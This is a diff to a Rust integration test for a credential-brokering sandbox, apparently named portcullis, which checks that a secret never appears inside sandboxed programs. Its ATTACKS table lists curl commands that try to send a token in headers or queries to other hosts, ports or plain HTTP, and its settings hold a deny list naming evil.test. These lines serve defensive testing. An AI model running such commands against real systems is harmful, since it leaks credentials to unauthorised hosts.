@@ -1,8 +1,10 @@
 //! Credentials that commands use without having them, with the programs that people use: each reaches a server that
 //! wants the credential, and the credential is nowhere inside.
 
+use std::ffi::OsStr;
+
 use anyhow::{Context as _, Result, ensure};
-use portcullis_it::{Finished, Scene, Tools, User, World, tools};
+use portcullis_it::{Finished, Scene, Tools, User, World};
 use serde_json::{Value, json};
 
 use crate::network::PROGRAM;
@@ -15,7 +17,7 @@ const SERVERS: &str = include_str!("brokered/servers.py");
 /// The credential. It appears in the environment of the host only.
 const SECRET: &str = "s3cr3t-Credential-0123456789";
 
-/// The variables from which programs make their requests; the host has the credential in one of them.
+/// The variable in which the host has it.
 const SOURCE: &str = "FORGE_SECRET";
 
 fn settings() -> Value {
@@ -32,7 +34,7 @@ fn settings() -> Value {
     header["header"] = json!("x-key");
     json!({
         "network": {
-            "allowedDomains": ["allowed.test"], "deniedDomains": ["evil.test"],
+            "allowedDomains": ["allowed.test", "example.com"], "deniedDomains": ["evil.test"],
             "requests": [{ "host": "allowed.test:9444", "allow": ["GET /open/**"], "maxBodyKib": 1, "ownAccountOnly": true }],
         },
         "filesystem": { "denyRead": [], "allowRead": ["."], "allowWrite": ["."], "denyWrite": [] },
@@ -49,14 +51,9 @@ fn run(world: &World<'_>, scene: &Scene, script: &str) -> Result<Finished> {
     scene.write(&scene.at("world").join("more.py"), SERVERS)?;
     let settings_file = scene.at("brokered.json");
     scene.write(&settings_file, &settings().to_string())?;
-    let binary = tools::portcullis(scene.user())?;
-    let mut command = world.command(&binary)?;
-    command.env(SOURCE, SECRET).env("SSL_CERT_FILE", scene.at("world").join("authority.pem"));
-    command
-        .args(["run", "--ask", "deny", "--settings"])
-        .arg(settings_file)
-        .args(["--", "bash", "-c", script]);
-    Finished::run(&mut command)
+    let authority = scene.at("world").join("authority.pem");
+    let variables = [(SOURCE, OsStr::new(SECRET)), ("SSL_CERT_FILE", authority.as_os_str())];
+    world.run_under(&settings_file, &variables, script)
 }
 
 /// Programs with their scripts, which print `REACHED` on success.
@@ -154,7 +151,7 @@ fn programs_use_a_credential_that_is_not_inside(user: User) -> Result<()> {
     let found = section(&finished.stdout, PROGRAMS.len())?;
     ensure!(found.split_whitespace().eq(["0", "0", "memory", "0", "0"]), "{found}");
     ensure!(!finished.stdout.contains(SECRET) && !finished.stderr.contains(SECRET), "{finished:#?}");
-    let log = crate::brokered::logs(&scene)?;
+    let log = logs(&scene)?;
     ensure!(log.contains("the credential `forge` goes into") && !log.contains(SECRET), "{log}");
     Ok(())
 }
@@ -163,7 +160,10 @@ fn programs_use_a_credential_that_is_not_inside(user: User) -> Result<()> {
 fn logs(scene: &Scene) -> Result<String> {
     let mut all = String::new();
     for entry in std::fs::read_dir(scene.home().join(".local/state/portcullis/audit"))? {
-        all.push_str(&String::from_utf8_lossy(&std::fs::read(entry?.path())?));
+        let path = entry?.path();
+        if path.is_file() {
+            all.push_str(&String::from_utf8_lossy(&std::fs::read(path)?));
+        }
     }
     Ok(all)
 }
@@ -198,8 +198,8 @@ const ATTACKS: &[(&str, &str, &str)] = &[
     ),
     ("in the wrong form", "curl -sS -u \"x:$FORGE_TOKEN\" $B/a", "host.placeholder"),
     (
-        "to another port in plain HTTP",
-        "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" http://allowed.test/a",
+        "to another host in plain HTTP",
+        "curl -sS -H \"Authorization: Bearer $FORGE_TOKEN\" http://example.com/a",
         "host.placeholder",
     ),
     (
@@ -252,6 +252,11 @@ const ATTACKS: &[(&str, &str, &str)] = &[
         "a key in the query there",
         "curl -sS 'https://allowed.test:9444/open/a?api_key=other'",
         "host.other-account",
+    ),
+    (
+        "the same host on another port, in plain HTTP",
+        "curl -sS -d a=b http://allowed.test/a",
+        "host.request-rule",
     ),
     (
         "a program that does not trust the session",
